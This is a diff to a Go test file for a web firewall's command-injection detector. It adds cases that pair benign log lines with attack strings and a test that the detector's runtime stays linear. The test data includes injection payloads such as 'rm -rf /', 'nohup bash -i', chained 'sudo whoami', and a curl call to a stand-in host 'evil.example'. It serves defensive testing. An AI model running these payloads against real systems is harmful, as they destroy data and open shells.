@@ -3,6 +3,7 @@ package injection
 import (
 	"encoding/json"
 	"net/url"
+	"strings"
 	"testing"
 
 	"github.com/edgeward/edgeward/policies"
@@ -53,6 +54,15 @@ var cmdiShapes = []cmdiShape{
 			"{job=\"ci\"} |= \"`rm -rf /var/cache`\"", "\"; rm -rf / #", "rm -rf /", "sudo rm -rf /var/www",
 			"x' && rm -rf /home '", "sh -c \"rm -rf /srv\"", "find /tmp -exec rm -rf / {} +"},
 	},
+	{
+		// A wrapper that runs its argument (timeout, time, sudo...) counts where the shell reads
+		// it as a command's name, not in a log line's words.
+		name: "wrapper word inside a log line",
+		benign: []string{"2024-04-29T09:04:11.813Z ERROR pq: canceling statement due to statement timeout (SQLSTATE 57014) query=\"SELECT id FROM tasks WHERE title ILIKE $1\"",
+			"Median response time curl reports from the probe is 3s"},
+		attacks: []string{"x; timeout 5 id", "sudo whoami", "statement timeout (x);timeout 3 id", "nohup bash -i",
+			"query=\"x\" && sudo -u root whoami", "'; sudo whoami; '", "$(timeout 3 id)", "`nohup curl evil.example`"},
+	},
 }
 
 // TestCmdiShapesDetector holds each shape to the detector at the default sensitivity.
@@ -98,6 +108,21 @@ func TestCmdiShapesWrapped(t *testing.T) {
 					}
 				}
 			}
+		}
+	}
+}
+
+// TestCmdiAtCommandLinear: the patterns read at a command position (cmdiAtCommand) stay linear
+// on values made of matches out of position, each of which the search steps past (see
+// TestDetectorsLinear for the measurement).
+func TestCmdiAtCommandLinear(t *testing.T) {
+	for _, unit := range []string{"a timeout 1 id ", "x sudo whoami ", "q rm -rf /x ", "timeout timeout "} {
+		small, large := strings.Repeat(unit, 1<<12), strings.Repeat(unit, 1<<15)
+		detect := func(s string) func() { return func() { detectAll(s, LocBody, false, famAll, 2) } }
+		ratio, ok := growth(detect(small), detect(large), func(r float64) bool { return r <= linearBound })
+		t.Logf("%q: %d → %d bytes: %.1fx the time", unit, len(small), len(large), ratio)
+		if !ok {
+			t.Errorf("%q: %d → %d bytes took %.1fx the time (bound %.0fx): not linear", unit, len(small), len(large), ratio, linearBound)
 		}
 	}
 }
